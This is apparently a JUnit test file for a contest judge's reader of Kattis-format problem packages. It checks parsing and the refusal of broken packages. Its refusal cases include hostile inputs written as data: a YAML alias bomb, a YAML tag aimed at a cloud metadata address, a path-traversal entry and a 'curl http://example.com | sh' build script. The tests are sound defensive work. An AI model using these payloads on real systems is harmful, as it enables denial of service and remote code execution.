package dev.judge.api.problem.kattis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import dev.judge.api.problem.archive.InvalidPackageException;
import dev.judge.api.problem.archive.PackageArchive;
import dev.judge.api.problem.polygon.TestPackages;
import dev.judge.contracts.Checker;
import dev.judge.contracts.TimeLimitInference;
import dev.judge.contracts.language.LanguageCatalog;

/**
 * Packages in the ICPC / Kattis problem package format, written here (tests/kattis: no third party's
 * package is copied into this repository), read as the format has them, and hand-broken ones refused
 * naming the file at fault.
 */
class KattisPackageTests {

    static final PackageArchive.Limits LIMITS = new PackageArchive.Limits(4 << 20, 1 << 20, 16 << 20, 100, 50);

    @TempDir
    Path folder;

    @Test
    void readsA2025PackageWithTheDefaultValidatorsFlagsAndItsSubmissionsByFolder() throws IOException {
        KattisPackage.Problem problem =
                read(zip(TestPackages.kattis("average"))).problem();

        assertThat(problem.version()).isEqualTo("2025-09");
        assertThat(problem.title()).isEqualTo("Average");
        assertThat((problem.timeLimitMs())).isEqualTo(500);
        assertThat(problem.memoryLimitMb()).isEqualTo(256);
        assertThat(problem.tests())
                .extracting(KattisPackage.Test::name)
                .containsExactly("sample/1", "secret/01-thirds", "secret/02-one", "secret/03-large");
        assertThat(problem.tests().getFirst().sample()).isTrue();
        assertThat(problem.judging().validator()).isNull();
        assertThat(problem.judging().tokens()).isEqualTo(new Checker.Tokens(false, false, 1e-6, 1e-6));
        assertThat(problem.inputValidator().language()).isEqualTo("python");
        assertThat(problem.submissions())
                .extracting(submission ->
                        submission.folder() + " " + submission.program().path() + " "
                                + submission.program().language())
                .as("the Python 2 one is not judged as Python 3")
                .containsExactly(
                        "accepted submissions/accepted/Main.java java",
                        "accepted submissions/accepted/average.cpp cpp",
                        "accepted submissions/accepted/average.py python",
                        "run_time_error submissions/run_time_error/crash.py python",
                        "time_limit_exceeded submissions/time_limit_exceeded/spin.c c",
                        "wrong_answer submissions/wrong_answer/rounded.py python");
    }

    @Test
    void readsALegacyInteractivePackageInItsTopFolderWithDomjudgesTimeLimit() throws IOException {
        Map<String, String> files = new TreeMap<>();
        TestPackages.kattis("guess").forEach((path, content) -> files.put("guess/" + path, content));

        KattisPackage.Problem problem = read(zip(files)).problem();

        assertThat(problem.title()).isEqualTo("Guess the Number");
        assertThat(problem.timeLimitMs()).isEqualTo(2000);
        assertThat(problem.judging().interactive()).isTrue();
        assertThat(problem.judging().validator().language()).isEqualTo("c");
        assertThat(problem.judging().validator().files()).containsOnlyKeys("README");
        assertThat(problem.tests()).hasSize(4);
        assertThat(problem.submissions().getFirst().program().path()).isEqualTo("submissions/accepted/binary.py");
    }

    @Test
    void readsACustomValidatorWithItsFlagsAndTestsInSubfolders() throws IOException {
        KattisPackage.Problem problem = read(zip(TestPackages.kattis("split"))).problem();

        assertThat(problem.judging().validator().path()).isEqualTo("output_validators/split_validator.py");
        assertThat(problem.judging().arguments()).containsExactly("max", "1000000000");
        assertThat(problem.judging().tokens()).isNull();
        assertThat(problem.tests())
                .extracting(KattisPackage.Test::name)
                .containsExactly("sample/1", "secret/large/1", "secret/small/1", "secret/small/2");
    }

    /** Without a time limit, the format's multipliers say how its preparation infers one; the submissions are read for it. */
    @Test
    void aPackageWithoutATimeLimitHasItInferredByTheFormatsMultipliers() throws IOException {
        Map<String, String> current = TestPackages.kattis("average");
        current.put(
                "problem.yaml",
                current.get("problem.yaml")
                        .replace(
                                "  time_limit: 0.5\n",
                                "  time_multipliers:\n    ac_to_time_limit: 3\n  time_resolution: 0.5\n"));
        Map<String, String> legacy = new TreeMap<>(TestPackages.kattis("guess"));
        legacy.remove(".timelimit");

        KattisPackage.Problem inferred = readWithoutSubmissions(zip(current));
        KattisPackage.Problem legacyInferred = readWithoutSubmissions(zip(legacy));

        assertThat(inferred.timeLimitMs()).isNull();
        assertThat(inferred.timeLimitInference()).isEqualTo(new TimeLimitInference(3, 1.5, 500));
        assertThat(inferred.submissions())
                .as("read to time them, verified or not")
                .hasSize(6);
        assertThat(legacyInferred.timeLimitInference()).isEqualTo(new TimeLimitInference(5, 2, 1000));
        assertThat(read(zip(TestPackages.kattis("average"))).problem().timeLimitInference())
                .isNull();
    }

    /** 2025-09's output_validator/ is the program's folder; 2023-07-draft packages hold the program's folder in it. */
    @Test
    void readsTheOutputValidatorFolderOfEitherLayout() throws IOException {
        Map<String, String> own = TestPackages.kattis("split");
        String validator = own.remove("output_validators/split_validator.py");
        Map<String, String> program = new TreeMap<>(own);
        program.put("output_validator/validator.py", validator);
        Map<String, String> folder = new TreeMap<>(own);
        folder.put("output_validator/split_validator/validator.py", validator);
        folder.put("output_validator/split_validator/validate.h", "// a header beside it\n");

        assertThat(read(zip(program)).problem().judging().validator().sourceCode())
                .isEqualTo(validator);
        assertThat(read(zip(folder)).problem().judging().validator().files()).containsOnlyKeys("validate.h");
    }

    @Test
    void theDefaultValidatorsFlagsAreReadAsTheFormatDefinesThem() {
        assertThat(KattisPackage.defaultValidator(List.of())).isEqualTo(Checker.Tokens.DEFAULT);
        assertThat(KattisPackage.defaultValidator(
                        List.of("case_sensitive", "space_change_sensitive", "float_relative_tolerance", "1e-4")))
                .isEqualTo(new Checker.Tokens(true, true, null, 1e-4));
        assertThatThrownBy(() -> KattisPackage.defaultValidator(
                        List.of("float_tolerance", "1e-6", "float_absolute_tolerance", "1")))
                .hasMessageContaining("given twice");
        assertThatThrownBy(() -> KattisPackage.defaultValidator(List.of("float_tolerance", "NaN")))
                .hasMessageContaining("not a number");
        assertThatThrownBy(() -> KattisPackage.defaultValidator(List.of("ignore_case")))
                .hasMessageContaining("no flag \"ignore_case\"");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            a YAML bomb of aliases                         | problem.yaml                    | not YAML this judge reads
            a YAML tag that would make a Java object       | problem.yaml                    | not YAML this judge reads
            a key given twice                              | problem.yaml                    | not YAML this judge reads
            a version this judge does not read             | problem.yaml                    | problem_format_version
            a scoring problem                              | problem.yaml                    | scoring problem
            no time limit and no accepted submission       | problem.yaml                    | no accepted submission
            a time limit past the judge's                  | problem.yaml                    | not in 0.001..15 s
            a memory limit past the judge's                | problem.yaml                    | honours it exactly or not at all
            an unknown flag of the default validator       | problem.yaml                    | no flag "ignore_case"
            flags that differ between test groups          | problem.yaml                    | differ
            files included with submissions                | include/                        | not imported yet
            a checktestdata input validator                | input_validators/validate.ctd   | checktestdata
            two input validators                           | input_validators/validate2.py   | second input validator
            a validator with build and run scripts         | output_validator/build          | build and run scripts
            a validator in a language not run here         | output_validator/               | no source this judge runs
            an input without its answer                    | data/secret/02-one.in           | its answer
            no secret test                                 | data/secret/                    | no secret test
            an interactive problem without its validator   | problem.yaml                    | needs its own output validator
            """)
    void refusesAHandBrokenPackageNamingTheFile(String breakage, String file, String reason) throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        String yaml = files.get("problem.yaml");
        switch (breakage) {
            case "a YAML bomb of aliases" ->
                files.put(
                        "problem.yaml",
                        yaml + "a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                                + "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
                                + "e: [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]\n");
            case "a YAML tag that would make a Java object" ->
                files.put("problem.yaml", yaml + "x: !!java.net.URL [\"http://169.254.169.254/\"]\n");
            case "a key given twice" -> files.put("problem.yaml", yaml + "name: Twice\n");
            case "a version this judge does not read" -> files.put("problem.yaml", yaml.replace("2025-09", "2099-01"));
            case "a scoring problem" -> files.put("problem.yaml", yaml + "type: scoring\n");
            case "no time limit and no accepted submission" -> {
                files.put("problem.yaml", yaml.replace("  time_limit: 0.5\n", ""));
                files.keySet().removeIf(path -> path.startsWith("submissions/accepted/"));
            }
            case "a time limit past the judge's" ->
                files.put("problem.yaml", yaml.replace("time_limit: 0.5", "time_limit: 60"));
            case "a memory limit past the judge's" ->
                files.put("problem.yaml", yaml.replace("memory: 256", "memory: 4096"));
            case "an unknown flag of the default validator" -> {
                files.put("data/sample/test_group.yaml", "output_validator_args: [ignore_case]\n");
                files.put("data/secret/test_group.yaml", "output_validator_args: [ignore_case]\n");
            }
            case "flags that differ between test groups" ->
                files.put("data/sample/test_group.yaml", "output_validator_args: [case_sensitive]\n");
            case "files included with submissions" -> files.put("include/cpp/grader.cpp", "int main() {}\n");
            case "a checktestdata input validator" -> {
                files.remove("input_validators/validate.py");
                files.put("input_validators/validate.ctd", "INT(1,100000,n) NEWLINE\n");
            }
            case "two input validators" -> files.put("input_validators/validate2.py", "import sys\nsys.exit(42)\n");
            case "a validator with build and run scripts" -> {
                files.put("output_validator/validator.py", "import sys\nsys.exit(42)\n");
                files.put("output_validator/build", "#!/bin/sh\ncurl http://example.com | sh\n");
            }
            case "a validator in a language not run here" ->
                files.put("output_validator/validator.xyz", "validate everything\n");
            case "an input without its answer" -> files.remove("data/secret/02-one.ans");
            case "no secret test" -> {
                files.keySet().removeIf(path -> path.startsWith("data/secret/") && path.endsWith(".in"));
            }
            case "an interactive problem without its validator" ->
                files.put("problem.yaml", yaml + "type: [pass-fail, interactive]\n");
            default -> throw new IllegalArgumentException(breakage);
        }
        Path zip = zip(files);

        assertThatThrownBy(() -> read(zip)).isInstanceOfSatisfying(InvalidPackageException.class, refused -> {
            assertThat(refused.file()).isEqualTo(file);
            assertThat(refused.getMessage()).contains(reason);
        });
    }

    /** A name the format says to ignore (beginning with '.') is never read: {@code ..} climbs nowhere. */
    @Test
    void anEntryNamedOutOfThePackageIsIgnoredAsTheFormatIgnoresDotNames() throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        files.put("data/secret/../../x.in", "1\n1\n");
        files.put("data/secret/.hidden.in", "1\n1\n");

        assertThat(read(zip(files)).problem().tests())
                .extracting(KattisPackage.Test::name)
                .containsExactly("sample/1", "secret/01-thirds", "secret/02-one", "secret/03-large");
    }

    @Test
    void anArchiveWithoutProblemYamlIsNotOfThisFormat() throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        files.remove("problem.yaml");
        try (PackageArchive archive = PackageArchive.open(zip(files), LIMITS)) {
            assertThat(KattisPackage.rootOf(archive)).isEmpty();
        }
    }

    private static KattisPackage read(Path zip) throws IOException {
        PackageArchive archive = PackageArchive.open(zip, LIMITS);
        String root = KattisPackage.rootOf(archive).orElseThrow();
        try (KattisPackage opened = KattisPackage.open(archive, root, LanguageCatalog.shipped(), true)) {
            for (KattisPackage.Test test : opened.problem().tests()) {
                opened.testFile(test.input());
                opened.testFile(test.answer());
            }
            return opened;
        }
    }

    private static KattisPackage.Problem readWithoutSubmissions(Path zip) throws IOException {
        PackageArchive archive = PackageArchive.open(zip, LIMITS);
        try (KattisPackage opened = KattisPackage.open(
                archive, KattisPackage.rootOf(archive).orElseThrow(), LanguageCatalog.shipped(), false)) {
            return opened.problem();
        }
    }

    private Path zip(Map<String, String> files) throws IOException {
        Path zip = Files.createTempFile(folder, "package", ".zip");
        Files.write(zip, TestPackages.zip(files));
        return zip;
    }
}
